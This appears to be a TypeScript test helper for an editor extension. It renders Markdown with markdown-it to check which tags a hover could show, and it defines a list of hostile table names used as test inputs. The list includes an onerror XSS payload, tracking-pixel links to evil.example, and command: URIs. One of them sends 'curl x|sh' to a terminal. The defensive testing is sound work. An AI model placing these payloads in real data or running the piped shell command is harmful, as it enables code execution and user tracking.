// A CommonMark renderer (markdown-it, with raw HTML and bare-URL links on, the most permissive
// reading) as the oracle for Markdown we build: what it turns into tags is what a hover could show.
import { createRequire } from 'node:module';

interface MarkdownIt {
  render(md: string): string;
}
type MarkdownItConstructor = new (options: { html: boolean; linkify: boolean }) => MarkdownIt;

const MarkdownItCtor = createRequire(__filename)('markdown-it') as MarkdownItConstructor;
const renderer = new MarkdownItCtor({ html: true, linkify: true });

export function renderMarkdown(md: string): string {
  return renderer.render(md);
}

/** The element names of the rendered HTML, each once, sorted. */
export function renderedTags(md: string): string[] {
  return [
    ...new Set([...renderMarkdown(md).matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => (m[1] as string).toLowerCase())),
  ].sort();
}

/** The rendered text with tags removed and the entities markdown-it writes decoded. */
export function renderedText(md: string): string {
  return renderMarkdown(md)
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .trim();
}

/** Table names a hostile repository or endpoint could hand us. */
export const HOSTILE_NAMES = [
  'orders` ![pixel](http://evil.example/p.png) [click](command:workbench.action.terminal.new) `',
  '![x](http://evil.example/x.png)',
  '[docs](https://evil.example)',
  '<img src=x onerror=alert(1)>',
  '<a href="command:foo">go</a>',
  '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%22%7D)',
  'see https://evil.example and www.evil.example or me@evil.example',
  'line one\n\n# heading\n- item\n\n```\ncode\n```',
  '*bold* _em_ ~~del~~ \\`$(bug)` &amp; &#60;tag&#62; [ref]: http://x',
  '`',
  '``double``',
  ' spaced ',
  '',
];
